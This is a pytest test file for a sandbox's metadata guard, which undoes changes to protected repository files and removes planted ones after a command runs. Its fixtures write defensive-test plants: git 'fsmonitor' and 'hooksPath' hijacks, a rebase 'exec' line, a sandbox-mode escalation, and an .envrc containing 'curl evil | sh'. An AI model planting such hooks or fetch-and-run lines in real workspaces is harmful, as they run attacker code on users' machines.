"""The protected-name guard: baseline before a command, restore after it.

Host-side file operations only, on a real temporary workspace; the
isolation tests (test_llb_fs, test_llb_git) run it behind real commands.
"""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from isolation.conftest import quarantined
from stockade.boundary import build_profile
from stockade.capabilities import capabilities_for_mode
from stockade.drivers.linux.host import fstree
from stockade.drivers.linux.host import guard as guard_module
from stockade.drivers.linux.host.fstree import remove_tree
from stockade.drivers.linux.host.guard import MetadataGuard
from stockade.errors import SandboxUnavailable
from stockade.profile import Profile


def make_profile(ws: Path) -> Profile:
    caps = capabilities_for_mode("workspace-write", str(ws))
    return build_profile(mode="workspace-write", workspace=str(ws), cwd=str(ws),
                         capabilities=caps, read_scope="host", host_env={"HOME": "/nonexistent"},
                         use_scratch=False)


def Guard(profile: Profile, state: str) -> MetadataGuard:
    """The guard's sweep alone: these tests write as the command would while it is
    alive, and a watch would settle each write as it lands (see test_guard_watch.py)."""
    return MetadataGuard(profile, state, restore_content=True, watch=False)


def release(guard: MetadataGuard) -> tuple[list[str], list[str], list[str]]:
    """(restored, removed or made inert, replaced parents), from what the guard reports."""
    done = guard.release()
    restored = [n.path for n in done if n.what.startswith("restored")]
    broken = [n.path for n in done if n.what.startswith("replaced")]
    return restored, [n.path for n in done if n.path not in restored + broken], broken


@pytest.fixture
def ws(tmp_path: Path) -> Path:
    w = tmp_path / "ws"
    (w / ".git" / "hooks").mkdir(parents=True)
    (w / ".git" / "hooks" / "pre-commit.sample").write_text("#!/bin/sh\n")
    (w / ".git" / "config").write_text("[core]\n")
    (w / "stockade.toml").write_text("[sandbox]\n")
    (w / "src.py").write_text("x = 1\n")
    os.utime(w / ".git" / "config", ns=(10**18, 10**18))
    return w


@pytest.fixture
def state(tmp_path: Path) -> str:
    return str(tmp_path / "state")


def tree(path: Path) -> dict[str, tuple[int, int, bytes | str]]:
    out: dict[str, tuple[int, int, bytes | str]] = {}
    for dirpath, dirs, files in os.walk(path):
        for name in dirs + files:
            p = os.path.join(dirpath, name)
            st = os.lstat(p)
            body: bytes | str = os.readlink(p) if os.path.islink(p) else (
                Path(p).read_bytes() if os.path.isfile(p) else b"")
            out[os.path.relpath(p, path)] = (st.st_mode, st.st_mtime_ns, body)
    return out


def test_changes_are_undone_and_plants_removed(ws: Path, state: str) -> None:
    before = tree(ws / ".git"), (ws / "stockade.toml").read_bytes()
    guard = Guard(make_profile(ws), state)
    (ws / ".git" / "hooks" / "pre-commit").write_text("#!/bin/sh\nevil\n")
    (ws / ".git" / "config").write_text("[core]\n\tfsmonitor = evil\n")
    (ws / "stockade.toml").write_text('[sandbox]\nmode = "full-access"\n')
    (ws / ".envrc").write_text("evil\n")
    (ws / ".vscode").mkdir()
    (ws / ".vscode" / "tasks.json").write_text("{}")
    (ws / "src.py").write_text("x = 2\n")  # ordinary work: not the guard's business
    restored, removed, broken = release(guard)
    assert (tree(ws / ".git"), (ws / "stockade.toml").read_bytes()) == before
    assert not (ws / ".envrc").exists() and not (ws / ".vscode").exists()
    assert (ws / "src.py").read_text() == "x = 2\n"
    assert set(restored) == {str(ws / ".git" / "hooks"), str(ws / ".git" / "config"),
                             str(ws / "stockade.toml")}
    assert str(ws / ".envrc") in removed and broken == []
    assert not os.listdir(os.path.join(state, "guard")) or all(
        name.endswith(".lock") for name in os.listdir(os.path.join(state, "guard")))


def test_nothing_changed_nothing_touched(ws: Path, state: str) -> None:
    before = tree(ws)
    guard = Guard(make_profile(ws), state)
    assert release(guard) == ([], [], [])
    assert tree(ws) == before


def test_a_symlinked_git_is_removed_never_written_through(ws: Path, state: str,
                                                          tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    guard = Guard(make_profile(ws), state)
    os.rename(ws / ".git", ws / ".git-moved")
    os.symlink(outside, ws / ".git")
    _restored, _removed, broken = release(guard)
    assert os.listdir(outside) == []  # no hooks or config written into the link's target
    assert broken == [str(ws / ".git")] and not os.path.lexists(ws / ".git")


def test_a_file_replaced_by_a_symlink_is_restored_as_a_file(ws: Path, state: str,
                                                            tmp_path: Path) -> None:
    target = tmp_path / "victim"
    target.write_text("host file\n")
    guard = Guard(make_profile(ws), state)
    (ws / "stockade.toml").unlink()
    os.symlink(target, ws / "stockade.toml")
    release(guard)
    assert target.read_text() == "host file\n"
    assert not (ws / "stockade.toml").is_symlink()
    assert (ws / "stockade.toml").read_text() == "[sandbox]\n"


def test_concurrent_commands_share_the_first_baseline(ws: Path, state: str) -> None:
    """A command starting while another has changed .git/config must not take the changed
    file for the original, whichever of the two ends last."""
    original = (ws / ".git" / "config").read_bytes()
    first = Guard(make_profile(ws), state)
    (ws / ".git" / "config").write_text("[core]\n\thooksPath = /evil\n")
    second = Guard(make_profile(ws), state)
    release(first)
    assert (ws / ".git" / "config").read_bytes() == original
    (ws / ".git" / "config").write_text("[core]\n\thooksPath = /evil\n")  # second's command
    release(second)
    assert (ws / ".git" / "config").read_bytes() == original


def test_a_crashed_guard_is_swept_by_the_next_one(ws: Path, state: str) -> None:
    """stockade killed mid-run: what its command left must not stay live. The next
    guard sweeps the orphaned baseline first; a later edit it undoes is kept in the
    quarantine and reported, never lost."""
    crashed = Guard(make_profile(ws), state)
    os.close(crashed.alive_fd)  # the process died: its flock is gone, its files stay
    crashed.alive_fd = -1
    (ws / ".git" / "config").write_text("[core]\n\tfsmonitor = evil\n")
    (ws / ".envrc").write_text("evil\n")
    fresh = Guard(make_profile(ws), state)
    restored, removed, _ = release(fresh)
    assert (ws / ".git" / "config").read_text() == "[core]\n"
    assert not (ws / ".envrc").exists()
    assert str(ws / ".git" / "config") in restored and str(ws / ".envrc") in removed
    kept = [p.read_text() for p in quarantined(state, ".git/config")]
    assert kept == ["[core]\n\tfsmonitor = evil\n"]


def test_a_baseline_too_large_to_keep_is_refused(ws: Path, state: str,
                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(guard_module, "GUARD_MAX_BYTES", 4)
    with pytest.raises(SandboxUnavailable, match="too large"):
        Guard(make_profile(ws), state)
    # ... and the refusal left no guard alive behind it.
    monkeypatch.setattr(guard_module, "GUARD_MAX_BYTES", 1 << 20)
    release(Guard(make_profile(ws), state))


def test_a_huge_planted_tree_is_removed_without_reading_it(ws: Path, state: str,
                                                           monkeypatch: pytest.MonkeyPatch
                                                           ) -> None:
    guard = Guard(make_profile(ws), state)
    monkeypatch.setattr(fstree, "GUARD_MAX_ENTRIES", 50)
    for i in range(200):
        (ws / ".git" / "hooks" / f"h{i}").write_text("x")
    release(guard)
    assert sorted(os.listdir(ws / ".git" / "hooks")) == ["pre-commit.sample"]


def test_read_only_mode_has_nothing_to_guard(ws: Path, state: str) -> None:
    caps = capabilities_for_mode("read-only", str(ws))
    p = build_profile(mode="read-only", workspace=str(ws), cwd=str(ws), capabilities=caps,
                      read_scope="host", host_env={"HOME": "/nonexistent"}, use_scratch=False)
    guard = Guard(p, state)
    assert guard.paths == [] and release(guard) == ([], [], [])


def test_a_deeply_nested_plant_is_cleared_without_crashing(ws: Path, state: str) -> None:
    """A tree deeper than the removal's bound: the name is freed (renamed aside first),
    and as much of it is deleted as can be."""
    guard = Guard(make_profile(ws), state)
    _nest(ws, ".vscode", 600)
    try:
        _restored, removed, _broken = release(guard)
        assert str(ws / ".vscode") in removed
        assert not (ws / ".vscode").exists()
    finally:
        for name in os.listdir(ws):
            if name.startswith((".stockade-removed-", ".vscode")):
                _unnest(ws, name)  # pytest's own cleanup would recurse too deep


def _nest(parent: Path, name: str, depth: int) -> None:
    fd = os.open(parent, os.O_RDONLY | os.O_DIRECTORY)
    os.mkdir(name, dir_fd=fd)
    cur = os.open(name, os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
    os.close(fd)
    for _ in range(depth):
        os.mkdir("d", dir_fd=cur)
        nxt = os.open("d", os.O_RDONLY | os.O_DIRECTORY, dir_fd=cur)
        os.close(cur)
        cur = nxt
    os.close(cur)


def _unnest(parent: Path, name: str) -> None:
    """Delete a single-chain tree of any depth, bottom up, without recursion."""
    fds = [os.open(parent, os.O_RDONLY | os.O_DIRECTORY)]
    names = [name]
    try:
        while True:
            fds.append(os.open(names[-1], os.O_RDONLY | os.O_DIRECTORY, dir_fd=fds[-1]))
            children = os.listdir(fds[-1])
            if not children:
                break
            names.append(children[0])
        os.close(fds.pop())
        while names:
            os.rmdir(names.pop(), dir_fd=fds[-1])
            os.close(fds.pop())
    finally:
        for fd in fds:
            os.close(fd)


def test_remove_tree_never_follows_a_link(tmp_path: Path) -> None:
    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / "keep").write_text("x")
    doomed = tmp_path / "doomed"
    (doomed / "sub").mkdir(parents=True)
    os.symlink(victim, doomed / "sub" / "link")
    remove_tree(str(doomed))
    assert not doomed.exists() and (victim / "keep").read_text() == "x"


def test_a_stale_baseline_is_swept_in_the_killed_runs_other_roots(ws: Path, state: str,
                                                                 tmp_path: Path) -> None:
    """A run killed with a second writable root left `.envrc` live there; the next run,
    read-only and with no roots of its own, sweeps the roots the killed run recorded."""
    other = tmp_path / "other"
    other.mkdir()
    caps = capabilities_for_mode("workspace-write", str(ws)).replace(
        fs_write=(str(ws), str(other)))
    writing = build_profile(mode="workspace-write", workspace=str(ws), cwd=str(ws),
                            capabilities=caps, read_scope="host",
                            host_env={"HOME": "/nonexistent"}, use_scratch=False)
    assert str(other) in writing.write_roots
    crashed = MetadataGuard(writing, state, restore_content=False, watch=False)
    os.close(crashed.alive_fd)
    crashed.alive_fd = -1
    (other / ".envrc").write_text("curl evil | sh\n")
    reading = build_profile(mode="read-only", workspace=str(ws), cwd=str(ws),
                            capabilities=capabilities_for_mode("read-only", str(ws)),
                            read_scope="host", host_env={"HOME": "/nonexistent"},
                            use_scratch=False)
    fresh = MetadataGuard(reading, state, restore_content=False, watch=False)
    assert str(other / ".envrc") in [n.path for n in fresh.release()]
    assert not (other / ".envrc").exists()


def test_what_a_created_repository_keeps_cannot_lock_out_later_commands(tmp_path: Path,
                                                                       state: str) -> None:
    """A repository the command made, with a rebase plan that runs a program, a link at
    `rebase-merge`, a 64 MiB sparse hook sample and a sparse `info/`: every one stopped
    the next command (a link cannot be held read-only; the Landlock baseline refused
    to copy so much) or ran at the person's `git rebase --continue`."""
    for plant in ("plan", "link", "sample", "info"):
        ws = tmp_path / plant
        ws.mkdir()
        guard = Guard(make_profile(ws), state)
        git = ws / ".git"
        (git / "hooks").mkdir(parents=True)
        (git / "HEAD").write_text("ref: refs/heads/main\n")
        if plant == "plan":
            (git / "rebase-merge").mkdir()
            (git / "rebase-merge" / "git-rebase-todo").write_text("exec touch /tmp/pwned\n")
        elif plant == "link":
            (git / "rebase-merge").symlink_to(tmp_path)
        elif plant == "sample":
            with (git / "hooks" / "pre-commit.sample").open("wb") as fh:
                fh.truncate((64 << 20) + 1)
        else:
            (git / "info").mkdir()
            with (git / "info" / "exclude").open("wb") as fh:
                fh.truncate(65 << 20)
        release(guard)
        assert not os.path.lexists(git / "rebase-merge"), plant
        assert os.listdir(git / "hooks") == [], plant
        assert not (git / "info" / "exclude").exists(), plant
        # The next command starts, and its baseline is taken.
        release(Guard(make_profile(ws), state))
